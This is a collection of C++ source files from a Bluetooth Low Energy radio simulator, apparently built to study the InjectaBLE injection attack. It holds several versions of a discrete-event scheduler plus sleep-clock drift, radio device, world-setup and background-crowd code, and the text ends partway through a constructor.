