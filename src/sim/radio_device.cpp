#include "sim/radio_device.hpp"

namespace ble::sim {

RadioDevice::RadioDevice(Scheduler& scheduler, RadioMedium& medium, Rng rng,
                         RadioDeviceConfig config)
    : scheduler_(scheduler),
      medium_(medium),
      rng_(rng),
      config_(std::move(config)),
      sleep_clock_(config_.clock, rng_.fork()) {
    medium_.attach(*this);
}

RadioDevice::~RadioDevice() { medium_.detach(*this); }

std::uint64_t RadioDevice::transmit(Channel channel, AirFrame frame) {
    return medium_.transmit(*this, channel, std::move(frame));
}

EventId RadioDevice::schedule_local(Duration local_delay, std::function<void()> fn) {
    const Duration global_delay = sleep_clock_.to_global(local_delay);
    return scheduler_.schedule_after(global_delay, std::move(fn));
}

}  // namespace ble::sim
