// Base class for everything with an antenna: masters, slaves, the attacker's
// dongle, IDS probes.
#pragma once

#include <optional>
#include <string>

#include "common/rng.hpp"
#include "common/time.hpp"
#include "sim/medium.hpp"
#include "sim/path_loss.hpp"
#include "sim/scheduler.hpp"
#include "sim/sleep_clock.hpp"

namespace ble::sim {

struct RadioDeviceConfig {
    std::string name = "device";
    Position position{};
    double tx_power_dbm = 0.0;
    SleepClockParams clock{};
};

class RadioDevice {
public:
    RadioDevice(Scheduler& scheduler, RadioMedium& medium, Rng rng, RadioDeviceConfig config);
    virtual ~RadioDevice();

    RadioDevice(const RadioDevice&) = delete;
    RadioDevice& operator=(const RadioDevice&) = delete;

    /// Frame fully received (possibly with corrupted bytes — check CRC).
    virtual void on_rx(const RxFrame& frame) = 0;
    /// Own transmission left the antenna.
    virtual void on_tx_complete() {}

    void listen(Channel channel) { medium_.start_listening(*this, channel); }
    void stop_listening() noexcept { medium_.stop_listening(*this); }
    /// Returns the medium's transmission id (useful to tests).
    std::uint64_t transmit(Channel channel, AirFrame frame);
    [[nodiscard]] bool transmitting() const noexcept { return transmitting_; }
    /// True while locked onto an in-flight frame (sync achieved, end pending).
    [[nodiscard]] bool receiving() const noexcept { return medium_.is_receiving(*this); }

    [[nodiscard]] const std::string& name() const noexcept { return config_.name; }
    [[nodiscard]] Position position() const noexcept { return config_.position; }
    void set_position(Position p) noexcept { config_.position = p; }
    [[nodiscard]] double tx_power_dbm() const noexcept { return config_.tx_power_dbm; }

    [[nodiscard]] Scheduler& scheduler() noexcept { return scheduler_; }
    [[nodiscard]] RadioMedium& medium() noexcept { return medium_; }
    [[nodiscard]] SleepClock& sleep_clock() noexcept { return sleep_clock_; }
    [[nodiscard]] Rng& rng() noexcept { return rng_; }
    [[nodiscard]] TimePoint now() const noexcept { return scheduler_.now(); }

    /// Schedule on this device's *local* clock: the real delay is `local_delay`
    /// distorted by the sleep clock's current drift. This is how every LL
    /// timer (connection events, transmit windows) is armed.
    EventId schedule_local(Duration local_delay, std::function<void()> fn);

private:
    friend class RadioMedium;

    Scheduler& scheduler_;
    RadioMedium& medium_;
    Rng rng_;
    RadioDeviceConfig config_;
    SleepClock sleep_clock_;
    bool transmitting_ = false;
    /// Receiver state, managed by RadioMedium.  Kept on the device so the
    /// medium never needs a pointer-keyed map (see ListenState in medium.hpp).
    ListenState listen_state_;
};

}  // namespace ble::sim
