#include "sim/scheduler.hpp"

#include <utility>

namespace ble::sim {

EventId Scheduler::schedule_at(TimePoint t, std::function<void()> fn) {
    if (t < now_) t = now_;
    const EventId id = next_id_++;
    heap_.push(HeapEntry{t, id});
    callbacks_.emplace(id, std::move(fn));
    return id;
}

void Scheduler::cancel(EventId id) noexcept { callbacks_.erase(id); }

bool Scheduler::run_one() {
    while (!heap_.empty()) {
        const HeapEntry entry = heap_.top();
        heap_.pop();
        auto it = callbacks_.find(entry.id);
        if (it == callbacks_.end()) continue;  // cancelled
        auto fn = std::move(it->second);
        callbacks_.erase(it);
        now_ = entry.t;
        fn();
        return true;
    }
    return false;
}

void Scheduler::run_until(TimePoint t) {
    while (!heap_.empty()) {
        // Skip cancelled entries without advancing time.
        const HeapEntry entry = heap_.top();
        auto it = callbacks_.find(entry.id);
        if (it == callbacks_.end()) {
            heap_.pop();
            continue;
        }
        if (entry.t > t) break;
        heap_.pop();
        auto fn = std::move(it->second);
        callbacks_.erase(it);
        now_ = entry.t;
        fn();
    }
    if (now_ < t) now_ = t;
}

std::size_t Scheduler::run_all(std::size_t max_events) {
    std::size_t count = 0;
    while (count < max_events && run_one()) ++count;
    return count;
}

}  // namespace ble::sim
