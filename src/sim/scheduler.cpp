#include "sim/scheduler.hpp"

#include <utility>

#include "obs/prof/profiler.hpp"

namespace ble::sim {

namespace {

/// One dispatched event, profiled.  The "sim.dispatch" span opens at the
/// pre-dispatch clock and closes at the event's firing time, so its sim-time
/// duration is exactly the simulated jump the event caused; queue depth is
/// sampled as a prof gauge.  All of it compiles down to a thread-local null
/// test when no profiler is installed.
inline void dispatch_profiled(TimePoint prev, TimePoint fire, std::size_t pending,
                              const std::function<void()>& fn) {
    obs::prof::set_sim_now(fire);
    static thread_local obs::prof::SpanSite dispatch_site{"sim.dispatch"};
    static thread_local obs::prof::GaugeSite depth_site{"sim.sched.queue_depth"};
    obs::prof::Span span(dispatch_site, prev);
    obs::prof::sample_gauge(depth_site, static_cast<std::int64_t>(pending));
    fn();
}

}  // namespace

EventId Scheduler::schedule_at(TimePoint t, std::function<void()> fn) {
    if (t < now_) t = now_;
    const EventId id = next_id_++;
    heap_.push(HeapEntry{t, id});
    callbacks_.emplace(id, std::move(fn));
    return id;
}

void Scheduler::cancel(EventId id) noexcept { callbacks_.erase(id); }

bool Scheduler::run_one() {
    while (!heap_.empty()) {
        const HeapEntry entry = heap_.top();
        heap_.pop();
        auto it = callbacks_.find(entry.id);
        if (it == callbacks_.end()) continue;  // cancelled
        auto fn = std::move(it->second);
        callbacks_.erase(it);
        const TimePoint prev = now_;
        now_ = entry.t;
        dispatch_profiled(prev, now_, callbacks_.size(), fn);
        return true;
    }
    return false;
}

void Scheduler::run_until(TimePoint t) {
    while (!heap_.empty()) {
        // Skip cancelled entries without advancing time.
        const HeapEntry entry = heap_.top();
        auto it = callbacks_.find(entry.id);
        if (it == callbacks_.end()) {
            heap_.pop();
            continue;
        }
        if (entry.t > t) break;
        heap_.pop();
        auto fn = std::move(it->second);
        callbacks_.erase(it);
        const TimePoint prev = now_;
        now_ = entry.t;
        dispatch_profiled(prev, now_, callbacks_.size(), fn);
    }
    if (now_ < t) now_ = t;
}

std::size_t Scheduler::run_all(std::size_t max_events) {
    std::size_t count = 0;
    while (count < max_events && run_one()) ++count;
    return count;
}

}  // namespace ble::sim
