#include "sim/scheduler.hpp"

#include <utility>

#include "obs/prof/profiler.hpp"

namespace ble::sim {

namespace {

/// One dispatched event, profiled.  The "sim.dispatch" span opens at the
/// pre-dispatch clock and closes at the event's firing time, so its sim-time
/// duration is exactly the simulated jump the event caused; queue depth is
/// sampled as a prof gauge.  All of it compiles down to a thread-local null
/// test when no profiler is installed.
inline void dispatch_profiled(TimePoint prev, TimePoint fire, std::size_t pending,
                              const std::function<void()>& fn) {
    obs::prof::set_sim_now(fire);
    static thread_local obs::prof::SpanSite dispatch_site{"sim.dispatch"};
    static thread_local obs::prof::GaugeSite depth_site{"sim.sched.queue_depth"};
    obs::prof::Span span(dispatch_site, prev);
    obs::prof::sample_gauge(depth_site, static_cast<std::int64_t>(pending));
    fn();
}

}  // namespace

Scheduler::~Scheduler() {
    for (Bucket& bucket : buckets_) {
        for (EventNode* node = bucket.head; node != nullptr;) {
            EventNode* next = node->next;
            destroy(node);
            node = next;
        }
    }
}

void Scheduler::destroy(EventNode* node) noexcept {
    node->~EventNode();
    pool_.deallocate(node, sizeof(EventNode));
}

void Scheduler::unlink(Bucket& bucket, EventNode* node, std::size_t slot) noexcept {
    if (node->prev != nullptr) {
        node->prev->next = node->next;
    } else {
        bucket.head = node->next;
    }
    if (node->next != nullptr) {
        node->next->prev = node->prev;
    } else {
        bucket.tail = node->prev;
    }
    if (bucket.head == nullptr) mark_empty(slot);
}

EventId Scheduler::schedule_at(TimePoint t, std::function<void()> fn) {
    if (t < now_) t = now_;
    const EventId id = next_id_++;
    const std::size_t slot = static_cast<std::size_t>(window_of(t)) & kBucketMask;
    Bucket& bucket = buckets_[slot];
    auto* node =
        new (pool_.allocate(sizeof(EventNode))) EventNode{Key{t, id}, nullptr, nullptr, std::move(fn)};
    // Ids are monotonic and simulations schedule forward, so the new key
    // almost always sorts after everything already in its bucket: walk
    // backward from the tail, which terminates immediately in the hot case.
    EventNode* after = bucket.tail;
    while (after != nullptr && node->key < after->key) after = after->prev;
    if (after == nullptr) {  // new minimum (or empty bucket)
        node->next = bucket.head;
        if (bucket.head != nullptr) {
            bucket.head->prev = node;
        } else {
            bucket.tail = node;
            mark_occupied(slot);
        }
        bucket.head = node;
    } else {
        node->prev = after;
        node->next = after->next;
        if (after->next != nullptr) {
            after->next->prev = node;
        } else {
            bucket.tail = node;
        }
        after->next = node;
    }
    index_.emplace(id, node);
    return id;
}

void Scheduler::cancel(EventId id) noexcept {
    const auto found = index_.find(id);
    if (found == index_.end()) return;
    EventNode* node = found->second;
    const std::size_t slot = static_cast<std::size_t>(window_of(node->key.t)) & kBucketMask;
    unlink(buckets_[slot], node, slot);
    destroy(node);  // slot returns to the arena
    index_.erase(found);
}

bool Scheduler::find_next(std::int64_t& window, Bucket** bucket) noexcept {
    if (index_.empty()) return false;
    // Walk the *occupied* slots in circular order from the cursor, skipping
    // empty windows wholesale via the bitmap.  Within one lap, circular slot
    // distance is window order, so the first slot whose earliest entry
    // belongs to the window under the cursor is the global minimum: a slot
    // holding only later laps sorts >= cursor_ + kNumBuckets, which no
    // direct match inside this lap can exceed.
    const std::size_t start = static_cast<std::size_t>(cursor_) & kBucketMask;
    constexpr std::size_t kNumWords = kNumBuckets / 64;
    Bucket* best = nullptr;
    for (std::size_t step = 0; step <= kNumWords; ++step) {
        const std::size_t wi = ((start >> 6) + step) % kNumWords;
        std::uint64_t bits = occupancy_[wi];
        if (step == 0) {
            bits &= ~std::uint64_t{0} << (start & 63);  // slots >= start only
        } else if (step == kNumWords) {
            bits &= (std::uint64_t{1} << (start & 63)) - 1;  // wrapped remainder
        }
        while (bits != 0) {
            const std::size_t slot = (wi << 6) + static_cast<std::size_t>(std::countr_zero(bits));
            bits &= bits - 1;
            Bucket& b = buckets_[slot];
            const std::int64_t w =
                cursor_ + static_cast<std::int64_t>((slot - start) & kBucketMask);
            if (window_of(b.head->key.t) == w) {
                window = w;
                *bucket = &b;
                return true;
            }
            // Lap-ahead slot: remember its minimum for the sparse fallback.
            if (best == nullptr || b.head->key < best->head->key) best = &b;
        }
    }
    // Every occupied slot holds only events > kNumBuckets windows away; the
    // loop above already reduced them to the exact global minimum.
    window = window_of(best->head->key.t);
    *bucket = best;
    return true;
}

void Scheduler::fire(Bucket& bucket) {
    EventNode* node = bucket.head;
    const TimePoint t = node->key.t;
    const EventId id = node->key.id;
    // The callback is moved out before the node dies so an event
    // rescheduling itself (or churning the arena) can never touch the
    // running functor.
    std::function<void()> fn = std::move(node->fn);
    unlink(bucket, node, static_cast<std::size_t>(window_of(t)) & kBucketMask);
    destroy(node);
    index_.erase(id);
    const TimePoint prev = now_;
    now_ = t;
    cursor_ = window_of(now_);
    dispatch_profiled(prev, now_, index_.size(), fn);
}

bool Scheduler::run_one() {
    std::int64_t window = 0;
    Bucket* bucket = nullptr;
    if (!find_next(window, &bucket)) return false;
    fire(*bucket);
    return true;
}

void Scheduler::run_until(TimePoint t) {
    for (;;) {
        std::int64_t window = 0;
        Bucket* bucket = nullptr;
        if (!find_next(window, &bucket) || bucket->head->key.t > t) break;
        fire(*bucket);
    }
    if (now_ < t) now_ = t;
    cursor_ = window_of(now_);
}

std::size_t Scheduler::run_all(std::size_t max_events) {
    std::size_t count = 0;
    while (count < max_events && run_one()) ++count;
    return count;
}

std::size_t Scheduler::storage_entries() const noexcept {
    std::size_t total = 0;
    for (const Bucket& b : buckets_) {
        for (const EventNode* node = b.head; node != nullptr; node = node->next) ++total;
    }
    return total;
}

}  // namespace ble::sim
