// Discrete-event scheduler: the single source of truth for simulated time.
//
// Events fire in (time, insertion-order) order, so same-timestamp events are
// deterministic.  Storage is a calendar queue: a ring of fixed-width time
// buckets (width ~ one connection event), each an intrusive doubly-linked
// list kept sorted by (time, id), with a bitmap of occupied buckets so the
// drain cursor skips runs of empty windows in one countr_zero.  Cancellation
// unlinks the node outright — no tombstones — so cancel-heavy workloads
// (dense worlds cancelling timeout guards every event) keep storage
// proportional to the live event count.  Nodes come from a per-scheduler
// chunk arena whose free slots are recycled in place, so steady-state
// schedule/cancel churn — and the first burst of a freshly built world —
// performs one heap allocation per *chunk* of events, not per event.
#pragma once

#include <array>
#include <bit>
#include <cstddef>
#include <cstdint>
#include <functional>
#include <memory>
#include <new>
#include <unordered_map>
#include <vector>

#include "common/time.hpp"

namespace ble::sim {

using EventId = std::uint64_t;
constexpr EventId kInvalidEvent = 0;

/// Fixed-size-slot arena feeding the calendar buckets' map nodes.  Slots are
/// carved out of chunks (one malloc per kChunkSlots events) and recycled
/// through an intrusive free list; chunks are only returned to the system
/// when the owning scheduler dies, so peak memory equals peak live events
/// rounded up to a chunk.
class EventNodePool {
public:
    EventNodePool() = default;
    EventNodePool(const EventNodePool&) = delete;
    EventNodePool& operator=(const EventNodePool&) = delete;

    void* allocate(std::size_t bytes) {
        if (slot_bytes_ == 0) slot_bytes_ = bytes;
        if (bytes != slot_bytes_) return ::operator new(bytes);  // foreign size: bypass
        if (free_ == nullptr) grow();
        FreeSlot* slot = free_;
        free_ = slot->next;
        --free_count_;
        return slot;
    }

    void deallocate(void* p, std::size_t bytes) noexcept {
        if (bytes != slot_bytes_) {
            ::operator delete(p);
            return;
        }
        auto* slot = static_cast<FreeSlot*>(p);
        slot->next = free_;
        free_ = slot;
        ++free_count_;
    }

    /// Recycled slots currently waiting for reuse.
    [[nodiscard]] std::size_t free_count() const noexcept { return free_count_; }

private:
    struct FreeSlot {
        FreeSlot* next;
    };
    static constexpr std::size_t kChunkSlots = 64;

    void grow() {
        const std::size_t stride =
            (slot_bytes_ + alignof(std::max_align_t) - 1) & ~(alignof(std::max_align_t) - 1);
        chunks_.push_back(std::make_unique<unsigned char[]>(stride * kChunkSlots));
        unsigned char* base = chunks_.back().get();
        for (std::size_t i = kChunkSlots; i-- > 0;) {  // thread in address order
            auto* slot = reinterpret_cast<FreeSlot*>(base + i * stride);
            slot->next = free_;
            free_ = slot;
        }
        free_count_ += kChunkSlots;
    }

    std::size_t slot_bytes_ = 0;
    FreeSlot* free_ = nullptr;
    std::size_t free_count_ = 0;
    std::vector<std::unique_ptr<unsigned char[]>> chunks_;
};

class Scheduler {
public:
    Scheduler() = default;
    ~Scheduler();
    Scheduler(const Scheduler&) = delete;
    Scheduler& operator=(const Scheduler&) = delete;

    [[nodiscard]] TimePoint now() const noexcept { return now_; }

    /// Schedules `fn` at absolute time `t` (clamped to `now()` if in the past).
    /// The returned EventId is the only way to cancel the event; discarding it
    /// (fire-and-forget) needs an audited allow(D4) lint suppression.
    [[nodiscard]] EventId schedule_at(TimePoint t, std::function<void()> fn);
    [[nodiscard]] EventId schedule_after(Duration d, std::function<void()> fn) {
        return schedule_at(now_ + d, std::move(fn));
    }

    /// Cancels a pending event. Cancelling an already-fired or invalid id is a
    /// harmless no-op (devices routinely cancel their timeout guards).
    void cancel(EventId id) noexcept;

    [[nodiscard]] bool empty() const noexcept { return index_.empty(); }
    [[nodiscard]] std::size_t pending() const noexcept { return index_.size(); }

    /// Live entries actually stored in the calendar buckets.  Always equals
    /// pending(): cancels erase their node instead of tombstoning it, which
    /// is exactly what the churn regression test asserts.
    [[nodiscard]] std::size_t storage_entries() const noexcept;

    /// Recycled arena slots waiting for reuse (bounded by the peak live
    /// event count, rounded up to a chunk).
    [[nodiscard]] std::size_t pooled_nodes() const noexcept { return pool_.free_count(); }

    /// Runs the next event; returns false if none are pending.
    bool run_one();

    /// Runs all events with time <= t, then advances the clock to exactly t.
    void run_until(TimePoint t);

    void run_for(Duration d) { run_until(now_ + d); }

    /// Drains the queue (bounded by `max_events` as a runaway guard).
    std::size_t run_all(std::size_t max_events = 100'000'000);

private:
    /// Bucket width 2^20 ns (~1.05 ms), one connection event at the paper's
    /// shortest practical interval, so a connection's worth of traffic lands
    /// in one or two buckets and the drain cursor rarely skips.
    static constexpr int kBucketShift = 20;
    static constexpr std::size_t kNumBuckets = 256;
    static constexpr std::size_t kBucketMask = kNumBuckets - 1;

    struct Key {
        TimePoint t;
        EventId id;
        bool operator<(const Key& other) const noexcept {
            return t != other.t ? t < other.t : id < other.id;
        }
    };

    /// One pending event, arena-allocated, linked into its bucket's sorted
    /// list.  Fixed-size by design: the arena recycles slots in place.
    struct EventNode {
        Key key;
        EventNode* prev = nullptr;
        EventNode* next = nullptr;
        std::function<void()> fn;
    };

    /// A calendar bucket: sorted by Key, smallest at head.  Trivially
    /// constructible, so building a scheduler costs two null stores per
    /// bucket instead of a container construction.
    struct Bucket {
        EventNode* head = nullptr;
        EventNode* tail = nullptr;
    };

    [[nodiscard]] static constexpr std::int64_t window_of(TimePoint t) noexcept {
        return t >> kBucketShift;
    }

    /// Finds the earliest live event at or after the cursor window.  Returns
    /// false when no events are pending.  The occupancy bitmap makes the
    /// scan proportional to the number of *occupied* buckets, not the number
    /// of empty windows crossed — events one connection interval apart
    /// (dozens of empty windows) cost the same as adjacent ones.
    bool find_next(std::int64_t& window, Bucket** bucket) noexcept;

    void mark_occupied(std::size_t slot) noexcept {
        occupancy_[slot >> 6] |= std::uint64_t{1} << (slot & 63);
    }
    void mark_empty(std::size_t slot) noexcept {
        occupancy_[slot >> 6] &= ~(std::uint64_t{1} << (slot & 63));
    }

    void fire(Bucket& bucket);
    void unlink(Bucket& bucket, EventNode* node, std::size_t slot) noexcept;
    void destroy(EventNode* node) noexcept;

    TimePoint now_ = 0;
    EventId next_id_ = 1;
    /// Window currently being drained; every live event has t >= now(), and
    /// now() lies inside this window, so forward scans never miss an event.
    std::int64_t cursor_ = 0;
    /// Arena backing every event node.
    EventNodePool pool_;
    std::array<Bucket, kNumBuckets> buckets_{};
    /// Bit b set iff buckets_[b] is non-empty; lets find_next skip runs of
    /// empty windows with countr_zero instead of probing each list.
    std::array<std::uint64_t, kNumBuckets / 64> occupancy_{};
    /// Keyed by the monotonically assigned EventId (a value, never a
    /// pointer) and used for O(1) cancel-and-erase only — firing order comes
    /// from the bucket lists, so this map's bucket order can never reach the
    /// simulation.
    std::unordered_map<EventId, EventNode*> index_;
};

}  // namespace ble::sim
