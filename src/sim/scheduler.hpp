// Discrete-event scheduler: the single source of truth for simulated time.
//
// Events fire in (time, insertion-order) order, so same-timestamp events are
// deterministic.  Cancellation is O(1) (the heap entry is left in place and
// skipped when popped).
#pragma once

#include <cstdint>
#include <functional>
#include <queue>
#include <unordered_map>
#include <vector>

#include "common/time.hpp"

namespace ble::sim {

using EventId = std::uint64_t;
constexpr EventId kInvalidEvent = 0;

class Scheduler {
public:
    Scheduler() = default;
    Scheduler(const Scheduler&) = delete;
    Scheduler& operator=(const Scheduler&) = delete;

    [[nodiscard]] TimePoint now() const noexcept { return now_; }

    /// Schedules `fn` at absolute time `t` (clamped to `now()` if in the past).
    /// The returned EventId is the only way to cancel the event; discarding it
    /// (fire-and-forget) needs an audited allow(D4) lint suppression.
    [[nodiscard]] EventId schedule_at(TimePoint t, std::function<void()> fn);
    [[nodiscard]] EventId schedule_after(Duration d, std::function<void()> fn) {
        return schedule_at(now_ + d, std::move(fn));
    }

    /// Cancels a pending event. Cancelling an already-fired or invalid id is a
    /// harmless no-op (devices routinely cancel their timeout guards).
    void cancel(EventId id) noexcept;

    [[nodiscard]] bool empty() const noexcept { return callbacks_.empty(); }
    [[nodiscard]] std::size_t pending() const noexcept { return callbacks_.size(); }

    /// Runs the next event; returns false if none are pending.
    bool run_one();

    /// Runs all events with time <= t, then advances the clock to exactly t.
    void run_until(TimePoint t);

    void run_for(Duration d) { run_until(now_ + d); }

    /// Drains the queue (bounded by `max_events` as a runaway guard).
    std::size_t run_all(std::size_t max_events = 100'000'000);

private:
    struct HeapEntry {
        TimePoint t;
        EventId id;
        bool operator>(const HeapEntry& other) const noexcept {
            return t != other.t ? t > other.t : id > other.id;
        }
    };

    TimePoint now_ = 0;
    EventId next_id_ = 1;
    std::priority_queue<HeapEntry, std::vector<HeapEntry>, std::greater<>> heap_;
    /// Keyed by the monotonically assigned EventId (a value, never a
    /// pointer) and used for find/erase only — firing order comes from the
    /// heap, so the map's bucket order can never reach the simulation.
    std::unordered_map<EventId, std::function<void()>> callbacks_;
};

}  // namespace ble::sim
