#include "sim/sleep_clock.hpp"

#include <algorithm>
#include <cmath>

namespace ble::sim {

SleepClock::SleepClock(SleepClockParams params, Rng rng) noexcept
    : params_(params), rng_(rng) {
    if (params_.initial_ppm == SleepClockParams::kSampleInitial) {
        rate_ppm_ = rng_.uniform(-params_.sca_ppm, params_.sca_ppm);
    } else {
        rate_ppm_ = std::clamp(params_.initial_ppm, -params_.sca_ppm, params_.sca_ppm);
    }
}

void SleepClock::step_walk() noexcept {
    rate_ppm_ = rate_ppm_ * (1.0 - params_.reversion) +
                rng_.normal(0.0, params_.walk_step_ppm);
    rate_ppm_ = std::clamp(rate_ppm_, -params_.sca_ppm, params_.sca_ppm);
}

Duration SleepClock::to_global(Duration local) noexcept {
    step_walk();
    const double scaled = static_cast<double>(local) * (1.0 + rate_ppm_ * 1e-6);
    return static_cast<Duration>(std::llround(scaled));
}

}  // namespace ble::sim
