// Sleep-clock model: the physical root cause of the InjectaBLE window.
//
// Every BLE device times its radio events with a low-power "sleep clock"
// whose frequency error is bounded by its Sleep Clock Accuracy (SCA, in ppm).
// The spec compensates with *window widening* (paper Eq. 4); the attack races
// inside that widened window.  We model each device's oscillator as a drift
// rate that random-walks inside the ±SCA envelope: consecutive intervals see
// correlated but slowly changing error, matching crystal behaviour far better
// than i.i.d. jitter.
#pragma once

#include "common/rng.hpp"
#include "common/time.hpp"

namespace ble::sim {

struct SleepClockParams {
    /// Maximum |frequency error| in parts-per-million. 20 ppm is the paper's
    /// worst-case assumption for the slave; masters often declare 31-50 ppm.
    double sca_ppm = 20.0;
    /// Random-walk step (ppm per resample). Larger = faster-wandering crystal.
    double walk_step_ppm = 2.0;
    /// Mean-reversion strength per resample: real crystals hover near their
    /// nominal frequency and only rarely approach the declared SCA envelope.
    double reversion = 0.02;
    /// Initial drift rate; sampled uniformly in ±sca_ppm when NaN.
    double initial_ppm = kSampleInitial;

    static constexpr double kSampleInitial = 1e9;  // sentinel
};

class SleepClock {
public:
    SleepClock(SleepClockParams params, Rng rng) noexcept;

    /// Real (simulation) duration that elapses while this device's local clock
    /// counts `local` nanoseconds.  Also advances the random walk, so each
    /// scheduled interval experiences slightly different drift.
    [[nodiscard]] Duration to_global(Duration local) noexcept;

    /// Current frequency error in ppm (positive = local clock runs slow, i.e.
    /// scheduled events happen *later* in global time).
    [[nodiscard]] double current_ppm() const noexcept { return rate_ppm_; }

    [[nodiscard]] double sca_ppm() const noexcept { return params_.sca_ppm; }

private:
    void step_walk() noexcept;

    SleepClockParams params_;
    Rng rng_;
    double rate_ppm_ = 0.0;
};

}  // namespace ble::sim
