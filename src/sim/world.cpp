#include "sim/world.hpp"

namespace ble::sim {

namespace {
PathLossModel make_path_loss(const RadioWorldSpec& spec) {
    PathLossModel model(spec.path_loss);
    for (const auto& wall : spec.walls) model.add_wall(wall);
    return model;
}
}  // namespace

RadioWorld::RadioWorld(const RadioWorldSpec& spec, std::uint64_t seed)
    : seed(seed),
      rng(seed),
      medium(scheduler, rng.fork(), make_path_loss(spec), CaptureModel(spec.capture),
             spec.medium) {}

}  // namespace ble::sim
