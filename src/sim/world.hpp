// RadioWorld: the RF substrate every fixture, bench and example shares — one
// discrete-event scheduler, one seeded RNG tree, and one radio medium, all
// built from a declarative spec instead of hand-wired per call site.
//
// Construction order (and therefore RNG fork order) is part of the contract:
// the medium forks the root stream first, then callers fork per-device
// streams in the order they create devices.  Keeping that order stable is
// what makes a world bit-reproducible from its seed.
#pragma once

#include <cstdint>
#include <vector>

#include "common/rng.hpp"
#include "sim/capture.hpp"
#include "sim/medium.hpp"
#include "sim/path_loss.hpp"
#include "sim/scheduler.hpp"

namespace ble::sim {

/// Declarative description of the RF environment.
struct RadioWorldSpec {
    PathLossParams path_loss{};
    std::vector<Wall> walls;
    CaptureParams capture{};
    MediumParams medium{};
};

struct RadioWorld {
    explicit RadioWorld(const RadioWorldSpec& spec, std::uint64_t seed);
    virtual ~RadioWorld() = default;

    RadioWorld(const RadioWorld&) = delete;
    RadioWorld& operator=(const RadioWorld&) = delete;

    void run_for(Duration d) { scheduler.run_until(scheduler.now() + d); }

    /// Runs the scheduler until `pred()` or the budget expires; returns the
    /// final predicate value.
    template <typename Pred>
    bool run_until(Duration budget, Pred&& pred) {
        const TimePoint deadline = scheduler.now() + budget;
        while (scheduler.now() < deadline && !pred()) {
            if (!scheduler.run_one()) break;
        }
        return pred();
    }

    /// The per-world observation stream (owned by the medium: one bus per
    /// world, reachable from every layer that can reach the radio).
    [[nodiscard]] ble::obs::EventBus& bus() noexcept { return medium.bus(); }

    std::uint64_t seed = 0;  ///< the seed this world was built from
    Rng rng;  ///< Root stream; fork() per-device streams from it.
    Scheduler scheduler;
    RadioMedium medium;
};

}  // namespace ble::sim
