#include "world/dense.hpp"

#include <cmath>
#include <utility>

#include "link/adv_pdu.hpp"
#include "phy/access_address.hpp"
#include "phy/crc.hpp"
#include "phy/frame.hpp"

namespace injectable::world {

using namespace ble;

namespace {

constexpr sim::Channel kAdvChannels[3] = {37, 38, 39};

/// Uniform position in a disc of `radius` metres around the origin (where
/// the victim triangle sits).  sqrt(u) makes the density uniform per area.
sim::Position draw_position(Rng& rng, double radius) {
    const double r = radius * std::sqrt(rng.next_double());
    const double theta = rng.uniform(0.0, 6.283185307179586);
    return sim::Position{r * std::cos(theta), r * std::sin(theta)};
}

/// A small LL data PDU (opaque to the crowd: nobody parses it) with seeded
/// payload bytes, framed with the connection's AA and CRC init so victim
/// radios that catch it fail the AA filter, exactly like real neighbours.
sim::AirFrame crowd_data_frame(Rng& rng, std::uint32_t access_address,
                               std::uint32_t crc_init, std::size_t payload_len) {
    Bytes pdu;
    pdu.reserve(2 + payload_len);
    pdu.push_back(0x01);  // LLID = continuation, no MD/SN/NESN games
    pdu.push_back(static_cast<std::uint8_t>(payload_len));
    for (std::size_t i = 0; i < payload_len; ++i) {
        pdu.push_back(static_cast<std::uint8_t>(rng.next_below(256)));
    }
    return phy::make_air_frame(access_address, pdu, crc_init);
}

}  // namespace

DenseEnvironment DenseEnvironment::scaled(double factor) const {
    DenseEnvironment out = *this;
    out.advertisers = static_cast<int>(advertisers * factor);
    out.scanners = static_cast<int>(scanners * factor);
    out.connections = static_cast<int>(connections * factor);
    return out;
}

// --- CrowdAdvertiser ---

CrowdAdvertiser::CrowdAdvertiser(sim::Scheduler& scheduler, sim::RadioMedium& medium,
                                 Rng rng, sim::RadioDeviceConfig config,
                                 Duration adv_interval)
    : RadioDevice(scheduler, medium, rng, std::move(config)),
      adv_interval_(adv_interval) {
    link::AdvDataPdu adv;
    adv.type = link::AdvPduType::kAdvNonconnInd;
    adv.advertiser = link::DeviceAddress::random_static(this->rng());
    adv.data = link::make_adv_name(name());
    frame_ = phy::make_air_frame(phy::kAdvertisingAccessAddress, adv.to_adv_pdu().serialize(),
                                 phy::kAdvertisingCrcInit);
    // Seeded phase: the crowd's advertising events spread over the interval
    // instead of thundering in lockstep at t=0.
    timer_ = schedule_local(
        static_cast<Duration>(this->rng().next_below(static_cast<std::uint64_t>(adv_interval_))),
        [this] { advertise(); });
}

void CrowdAdvertiser::advertise() {
    (void)transmit(kAdvChannels[channel_index_], frame_);
    channel_index_ = (channel_index_ + 1) % 3;
    // Fixed interval plus the spec's 0..10 ms pseudo-random advDelay.
    const Duration delay =
        adv_interval_ + static_cast<Duration>(rng().next_below(10'000'000));
    timer_ = schedule_local(delay, [this] { advertise(); });
}

// --- CrowdScanner ---

CrowdScanner::CrowdScanner(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
                           sim::RadioDeviceConfig config, Duration scan_window)
    : RadioDevice(scheduler, medium, rng, std::move(config)), scan_window_(scan_window) {
    channel_index_ = static_cast<int>(this->rng().next_below(3));
    listen(kAdvChannels[channel_index_]);
    // Seeded phase, like the advertisers.
    timer_ = schedule_local(
        static_cast<Duration>(this->rng().next_below(static_cast<std::uint64_t>(scan_window_))),
        [this] { rotate(); });
}

void CrowdScanner::rotate() {
    channel_index_ = (channel_index_ + 1) % 3;
    listen(kAdvChannels[channel_index_]);
    timer_ = schedule_local(scan_window_, [this] { rotate(); });
}

// --- CrowdConnection ---

CrowdConnection::CrowdConnection(sim::Scheduler& scheduler, sim::RadioMedium& medium,
                                 Rng rng, const DenseEnvironment& env, int index,
                                 sim::Position master_pos, sim::Position slave_pos)
    : scheduler_(scheduler), selector_(5, link::ChannelMap{}) {
    const std::uint16_t span =
        static_cast<std::uint16_t>(env.max_hop_interval - env.min_hop_interval);
    hop_interval_ = static_cast<std::uint16_t>(env.min_hop_interval +
                                               rng.next_below(span + 1u));
    const auto hop_increment = static_cast<std::uint8_t>(5 + rng.next_below(12));
    selector_ = link::Csa1(hop_increment, link::ChannelMap{});
    access_address_ = phy::random_access_address(rng);
    crc_init_ = static_cast<std::uint32_t>(rng.next_below(1u << 24));
    master_frame_ = crowd_data_frame(rng, access_address_, crc_init_, 8);
    slave_frame_ = crowd_data_frame(rng, access_address_, crc_init_, 0);

    sim::RadioDeviceConfig m_cfg;
    m_cfg.name = "crowd-master-" + std::to_string(index);
